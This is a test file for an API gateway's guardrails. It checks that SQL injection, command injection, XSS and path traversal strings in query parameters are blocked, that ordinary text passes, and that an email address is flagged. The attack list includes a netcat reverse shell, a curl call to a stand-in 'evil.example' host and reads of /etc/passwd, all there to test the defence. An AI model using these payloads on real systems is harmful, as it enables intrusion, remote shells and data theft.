import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { KEY, sharedGateway, type TestGateway } from '../harness/gateway.ts';
import { sharedUpstream, type HttpUpstream } from './upstream.ts';

let upstream: HttpUpstream;
let gateway: TestGateway;
let seen = 0;

beforeAll(async () => {
  upstream = await sharedUpstream((_request, response) => {
    seen += 1;
    response.end('well');
  });
  gateway = await sharedGateway({
    config: `guardrails:
  - { name: no-attacks, on: request, detect: attacks, action: block, appliesTo: named }
  - { name: people, on: request, detect: pii, action: flag, appliesTo: named }
apis:
  - { name: shop, path: /shop, upstreams: ["${upstream.url}"], private: true, guardrails: [no-attacks, people] }
  - { name: open, path: /open, upstreams: ["${upstream.url}"], private: true }
keys: [{ name: client, secret: ${KEY} }]
`,
  });
});
beforeEach(() => {
  seen = 0;
});
afterAll(async () => {
  await gateway.stop();
  await upstream.close();
});

const get = (path: string) =>
  fetch(gateway.addresses.gateway + path, { headers: { authorization: `Bearer ${KEY}` } });

const attacks = [
  "1' OR '1'='1",
  "1' or 1=1 -- ",
  '1; DROP TABLE users',
  '1 UNION/**/SELECT password FROM users',
  "1' AND SLEEP(5)-- ",
  "admin'--",
  '; cat /etc/passwd',
  '$(curl http://evil.example)',
  '`id`',
  '| nc -e /bin/sh 10.0.0.1 80',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<svg/onload=alert(1)>',
  '../../../../etc/passwd',
];
const ordinary = [
  "O'Brien",
  'rock & roll',
  'a; b; c',
  'select a gift',
  'drop shipping',
  'C++ <3',
  'price < 10 or price > 5',
  'cats and dogs',
  'union square',
  '50% off',
  "it's 5 o'clock",
  'script font',
  'who am i',
  '2026-11-28',
  'on = off',
];

describe('SQL, commands and markup in parameters of an HTTP API', () => {
  it.each(attacks)('%s is refused, in a query, twice encoded, and in a path', async (text) => {
    for (const path of [
      `/shop?q=${encodeURIComponent(text)}`,
      `/shop?q=${encodeURIComponent(encodeURIComponent(text))}`,
    ]) {
      const answer = await get(path);
      expect([path, answer.status]).toEqual([path, 400]);
      expect(await answer.text()).toContain('guardrail_blocked');
    }
    expect(seen).toBe(0);
    expect((await get(`/open?q=${encodeURIComponent(text)}`)).status).toBe(200);
  });

  it.each(ordinary)('%s passes', async (text) => {
    expect((await get(`/shop?q=${encodeURIComponent(text)}`)).status).toBe(200);
  });

  it('a flag passes and is told', async () => {
    const answer = await get('/shop?mail=bob%40example.com');
    expect(answer.status).toBe(200);
    const metrics = await (await fetch(`${gateway.addresses.probes}/metrics`)).text();
    expect(metrics).toContain('guardrail="people",side="request",action="flag",kind="email"');
  });
});
